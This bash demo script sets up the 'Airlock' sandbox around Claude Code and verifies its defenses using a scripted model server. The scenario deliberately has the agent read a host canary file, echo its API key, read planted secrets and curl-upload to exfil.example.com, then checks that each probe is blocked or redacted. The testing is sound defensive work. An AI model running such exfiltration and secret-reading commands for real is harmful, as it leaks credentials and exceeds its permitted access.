#!/usr/bin/env bash
# The main job on the embedded defaults: set up what is missing, build and approve the
# Claude Code image, then run the real agent, governed, on a sample repository against a
# scripted model server that speaks the Anthropic Messages API (no LLM is reachable
# here), and print the session's record and a passing `airlock audit verify`.
# Safe to run again. State: $AIRLOCK_HOME (default ~/.airlock-demo, apart from yours).
set -euo pipefail
cd "$(dirname "$0")/.."
root=$(pwd)
./scripts/setup-host.sh

export AIRLOCK_HOME=${AIRLOCK_HOME:-$HOME/.airlock-demo}
airlock() { node "$root/bin/airlock.js" "$@"; }
demo=$AIRLOCK_HOME/demo
repo=$demo/sample-repo
provider=$demo/provider
canary=$HOME/.airlock-demo-canary
mkdir -p "$demo" "$provider"

# A sample repository, as a developer's checkout (owned by the sandbox user when we are root).
if [ ! -d "$repo/.git" ]; then
  mkdir -p "$repo"
  printf '# Sample service\n\nA repository for the Airlock demo.\n' > "$repo/README.md"
  git -C "$repo" init -q -b main
  git -C "$repo" -c user.name=demo -c user.email=demo@example.invalid add -A
  git -C "$repo" -c user.name=demo -c user.email=demo@example.invalid commit -qm "initial commit"
fi
# A developer's local secrets, ignored by git: masked (workspace.masked), empty inside.
printf '.env\n' > "$repo/.git/info/exclude"
printf 'DATABASE_PASSWORD=demo-db-password-do-not-leak\n' > "$repo/.env"
# A cloud key someone left in a file: DLP redacts it from what the model receives.
aws_key=AKIA$(node -e 'const a="ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";process.stdout.write(Array.from(require("crypto").randomBytes(16),(b)=>a[b%32]).join(""))')
printf '# Deploying\n\nexport AWS_ACCESS_KEY_ID=%s\n' "$aws_key" > "$repo/DEPLOY.md"
[ "$(id -u)" = 0 ] && chown -R 1000:1000 "$repo"
rm -f "$repo/NOTES.md"
echo "host-only secret: do not leak" > "$canary"

echo "== airlock images build claude (skipped when up to date), then approve it"
airlock images build claude
airlock images approve claude

# The stand-in for api.anthropic.com: a certificate from a demo CA that Airlock's proxy
# trusts for upstream TLS (tls.upstreamCaFile), like a corporate CA.
if [ ! -f "$provider/server.pem" ]; then
  openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -keyout "$provider/ca.key" -out "$provider/ca.pem" \
    -subj "/CN=Airlock demo provider CA" -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign,cRLSign" 2>/dev/null
  openssl req -newkey rsa:2048 -nodes -keyout "$provider/server.key" -out "$provider/server.csr" -subj "/CN=api.anthropic.com" 2>/dev/null
  printf 'subjectAltName=DNS:api.anthropic.com\nextendedKeyUsage=serverAuth\n' > "$provider/ext.cnf"
  openssl x509 -req -in "$provider/server.csr" -CA "$provider/ca.pem" -CAkey "$provider/ca.key" -CAcreateserial \
    -days 3650 -out "$provider/server.pem" -extfile "$provider/ext.cnf" 2>/dev/null
fi
cat > "$provider/scenario.yaml" <<SCENARIO
steps:
  - write: { path: NOTES.md, content: "Written by Claude Code inside the Airlock sandbox.\n" }
  - shell: { command: "cat $canary; echo canary-exit=\$?" }
  - shell: { command: "echo .env holds \$(wc -c < .env) bytes" }
  - shell: { command: "curl -s -o /dev/null -w 'exfil.example.com answered %{http_connect}' https://exfil.example.com/upload; echo" }
  - shell: { command: "echo the key I hold: \$ANTHROPIC_API_KEY" }
  - shell: { command: "cat DEPLOY.md" }
  - say: "Done: NOTES.md is written. The host file was not readable, and exfil.example.com was refused by policy."
SCENARIO
rm -f "$provider/requests.jsonl"
node "$root/dist/model-server.js" --scenario "$provider/scenario.yaml" --tls-cert "$provider/server.pem" --tls-key "$provider/server.key" \
  --record "$provider/requests.jsonl" > "$provider/listening.json" &
model=$!
trap 'kill $model 2>/dev/null || true; rm -f "$canary"' EXIT
for _ in $(seq 50); do [ -s "$provider/listening.json" ] && break; sleep 0.1; done
port=$(node -e 'process.stdout.write(String(JSON.parse(require("fs").readFileSync(process.argv[1], "utf8")).port))' "$provider/listening.json")

# The embedded defaults, plus what points api.anthropic.com at the scripted model.
cat > "$AIRLOCK_HOME/policy.yaml" <<POLICY
# Written by scripts/demo.sh: the built-in policy, except that api.anthropic.com is the
# scripted model server on this machine (port $port), trusted through the demo CA.
version: 1
egress:
  resolve: { api.anthropic.com: 127.0.0.1 }
credentials:
  - name: anthropic
    hosts: [api.anthropic.com]
    ports: [$port]
    inject: { header: x-api-key }
    source: { env: ANTHROPIC_API_KEY }
    placeholderPrefix: sk-ant-airlock-
    upstream: https://api.anthropic.com:$port
    dlp: redact
tls: { upstreamCaFile: $provider/ca.pem }
POLICY
# The real key lives in airlock's own environment; the agent only ever gets a placeholder.
export ANTHROPIC_API_KEY="sk-ant-demo-$(od -An -tx1 -N16 /dev/urandom | tr -d ' \n')"

echo
echo "== airlock run claude: the real Claude Code, governed (driver: policy default, auto)"
set +e
airlock run claude --repo "$repo" -- -p "Write NOTES.md, then check what you can reach." --allowedTools Bash,Write,Edit,Read
code=$?
set -e
kill $model 2>/dev/null || true
wait $model 2>/dev/null || true

echo
echo "== what happened"
echo "claude's exit code: $code"
echo "NOTES.md in the repository: $(test -f "$repo/NOTES.md" && echo "yes: $(cat "$repo/NOTES.md")" || echo no)"
node - "$provider/requests.jsonl" "$ANTHROPIC_API_KEY" "$aws_key" <<'CHECK'
const [file, key, aws] = process.argv.slice(2);
const reqs = require('fs').readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
const bodies = JSON.stringify(reqs.map((r) => r.body));
console.log(`model requests: ${reqs.length}; each carried the real key: ${reqs.every((r) => r.headers['x-api-key'] === key)}`);
console.log(`the agent's view of the key: ${(bodies.match(/the key I hold: ([A-Za-z0-9_-]+)/) || [])[1]} (a placeholder; the real key never entered the sandbox: ${!bodies.includes(key)})`);
console.log(`reading the host canary: ${(bodies.match(/canary-exit=\d+/) || ['?'])[0]} (not visible inside)`);
console.log(`the repository's .env inside the sandbox: ${(bodies.match(/\.env holds \d+ bytes/) || ['?'])[0]} (masked: the password on the host never reached the model: ${!bodies.includes('demo-db-password')})`);
console.log(`exfil.example.com: ${(bodies.match(/exfil.example.com answered \d+/) || ['?'])[0]} (denied by the proxy)`);
console.log(`DEPLOY.md's AWS key as the model received it: ${(bodies.match(/AWS_ACCESS_KEY_ID=(\[airlock-redacted:[a-z-]+\]|AKIA[A-Z2-7]{16})/) || [])[1]} (DLP redacted it: the key never reached the model: ${!bodies.includes(aws)})`);
CHECK
echo "leftover containers: $(docker ps -aq --filter label=dev.airlock.session | wc -l)"
echo "leftover run directories: $(ls "$AIRLOCK_HOME/run" 2>/dev/null | wc -l)"

echo
echo "== the audit record of that session"
session=$(airlock sessions list --limit 1 --json | node -e 'process.stdout.write(JSON.parse(require("fs").readFileSync(0, "utf8"))[0].sessionId)')
airlock sessions show "$session"
echo
echo "== airlock images list"
airlock images list
echo
echo "== airlock audit verify"
airlock audit verify
[ "$code" = 0 ] && test -f "$repo/NOTES.md"
echo "demo: ok"
